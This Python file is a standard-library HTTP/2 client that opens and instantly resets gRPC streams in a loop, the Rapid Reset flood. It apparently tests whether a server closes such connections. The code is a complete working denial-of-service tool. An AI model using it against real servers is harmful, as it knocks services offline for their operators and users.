"""An HTTP/2 client that opens streams and resets them at once, in a tight loop. Standard library only.

It acknowledges settings and answers pings, as every client must: gRPC itself closes one that does not.

As a program: the path of a unix socket or HOST:PORT; it prints a line when it has begun, and another one when the
server has closed the connection. With a further argument it connects again then, so many times.
"""

import socket
import struct
import sys
from functools import cache

_HEADERS, _DATA, _RESET, _SETTINGS, _PING = 1, 0, 3, 4, 6
_ACKNOWLEDGED = 1
_CANCEL = struct.pack(">I", 8)
_AT_ONCE = 200


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _header(name: str, value: str) -> bytes:
    return b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def opened(address: str) -> socket.socket:
    """A connection that has said HTTP/2."""
    if "/" in address:
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(address)
    else:
        host, _, port = address.rpartition(":")
        connection = socket.create_connection((host, int(port)))
    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0))
    return connection


def call_frames(method: str, stream: int) -> bytes:
    """The frames of a call that is opened, sent and reset."""
    block = _header_block(method)
    return frame(_HEADERS, 4, stream, block) + frame(_DATA, 1, stream, bytes(5)) + frame(_RESET, 0, stream, _CANCEL)


@cache
def _header_block(method: str) -> bytes:
    return b"".join(
        _header(name, value)
        for name, value in (
            *((":method", "POST"), (":scheme", "http"), (":path", method), (":authority", "localhost")),
            *(("te", "trailers"), ("content-type", "application/grpc")),
        )
    )


def flood(connection: socket.socket, method: str) -> None:
    """Until the server closes the connection."""
    received = b""
    stream = 1
    try:
        while stream < 2**30:
            connection.settimeout(None)
            connection.sendall(b"".join(call_frames(method, each) for each in range(stream, stream + 2 * _AT_ONCE, 2)))
            stream += 2 * _AT_ONCE
            if stream == 1 + 20 * _AT_ONCE:
                print("begun", flush=True)
            connection.settimeout(0)
            while chunk := _received(connection):
                received = _answered(connection, received + chunk)
    except (ConnectionError, EOFError):
        print("closed", flush=True)


def _received(connection: socket.socket) -> bytes:
    """What there is, perhaps nothing. Raises EOFError."""
    try:
        chunk = connection.recv(65536)
    except BlockingIOError:
        return b""
    if not chunk:
        raise EOFError
    return chunk


def _answered(connection: socket.socket, received: bytes) -> bytes:
    """Answer what must be answered; return the beginning of a frame that is not complete."""
    answers = b""
    while len(received) >= 9 and len(received) >= (end := 9 + int.from_bytes(received[:3], "big")):
        kind, flags = received[3], received[4]
        if kind in (_SETTINGS, _PING) and not flags & _ACKNOWLEDGED:
            answers += frame(kind, _ACKNOWLEDGED, 0, received[9:end] if kind == _PING else b"")
        received = received[end:]
    if answers:
        connection.settimeout(None)
        connection.sendall(answers)
        connection.settimeout(0)
    return received


if __name__ == "__main__":
    for _ in range(int((*sys.argv, "1")[2])):
        flood(opened(sys.argv[1]), "/betcode.v1.AgentService/ListSessions")
